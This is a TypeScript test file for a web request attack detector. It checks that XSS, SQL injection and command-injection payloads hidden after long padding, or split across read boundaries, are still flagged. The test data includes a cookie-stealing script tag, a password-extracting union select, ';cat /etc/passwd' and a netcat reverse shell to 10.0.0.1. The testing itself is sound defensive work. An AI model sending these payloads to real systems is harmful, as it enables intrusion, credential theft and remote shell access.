// Attacks placed after long padding in a body: values longer than one piece
// are read whole, so padding does not hide what follows it.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { exchangeOf } from '../../src/detection/corpus/exchange-of.js';
import { detectRequest } from '../../src/detection/index.js';
import type { Exchange } from '../../src/model/exchange.js';

function post(contentType: string, text: string): Exchange {
  return exchangeOf({ method: 'POST', path: '/submit', scheme: 'https', authority: 'shop.test', headers: [['content-type', contentType]], body: Buffer.from(text) }, null);
}

// These tests read pieces, not the time budget, which a busy machine could
// spend before the last piece. incomplete.test.ts tests the budget.
const NO_BUDGET = Number.POSITIVE_INFINITY;

const SHAPES: ReadonlyArray<[name: string, contentType: string, build: (value: string) => string]> = [
  ['text', 'text/plain', (value) => value],
  ['form', 'application/x-www-form-urlencoded', (value) => `comment=${encodeURIComponent(value).replaceAll('%20', '+')}`],
  ['JSON', 'application/json', (value) => JSON.stringify({ comment: value })],
];

const ATTACKS: ReadonlyArray<[attackClass: string, text: string]> = [
  ['xss', '<script>alert(document.cookie)</script>'],
  ['sqli', "' union select password from users --"],
  ['rce', ';cat /etc/passwd'],
];

// Paddings of at most 60 KiB leave room for the attack inside the 64 KiB
// of body that detection reads.
const PADDINGS: ReadonlyArray<[name: string, text: string]> = [
  ['16 KiB of letters', 'abcdefgh '.repeat(Math.ceil((16 * 1024) / 9))],
  ['60 KiB of spaces', ' '.repeat(60 * 1024)],
  ['60 KiB of letters', 'lorem ipsum '.repeat(60 * 1024 / 12)],
];

for (const [paddingName, padding] of PADDINGS) {
  for (const [shapeName, contentType, build] of SHAPES) {
    test(`detectRequest finds attack after ${paddingName} in ${shapeName} body`, () => {
      for (const [attackClass, attack] of ATTACKS) {
        const body = build(`${padding}${attack}`);
        assert.ok(body.length <= 64 * 1024, `${shapeName} body has ${body.length} bytes`);

        const found = detectRequest(post(contentType, body), NO_BUDGET).map((detection) => detection.class);
        assert.ok(found.includes(attackClass), `${attackClass} not found after ${paddingName} in ${shapeName} body: ${found.join(', ')}`);
      }
    });
  }
}

test('detectRequest finds attack across a piece boundary', () => {
  // The attack straddles the end of the first 8 KiB piece.
  const attack = '<script>alert(document.cookie)</script>';
  const padding = 'a '.repeat(4096 - 10);
  const found = detectRequest(post('text/plain', `${padding}${attack}${'b '.repeat(8192)}`), NO_BUDGET).map((detection) => detection.class);
  assert.ok(found.includes('xss'), `xss not found: ${found.join(', ')}`);
});

test('blank runs keep operator and command', () => {
  for (const [name, contentType, blanks, build] of [
    ['form, encoded spaces', 'application/x-www-form-urlencoded', '%20'.repeat(3000), (value: string) => `q=${value}`],
    ['text, spaces and line breaks', 'text/plain', ' \n'.repeat(3000), (value: string) => value],
  ] as const) {
    for (const offset of [0, 5000, 7000, 7900, 11000]) {
      const value = `${'a'.repeat(offset)};${blanks}nc -e /bin/sh 10.0.0.1 4444`;

      const found = detectRequest(post(contentType, build(value)), NO_BUDGET).map((detection) => detection.class);

      assert.ok(found.includes('rce'), `${name}, ';' at ${offset}: found ${found.join(', ') || 'nothing'}`);
    }
  }
});
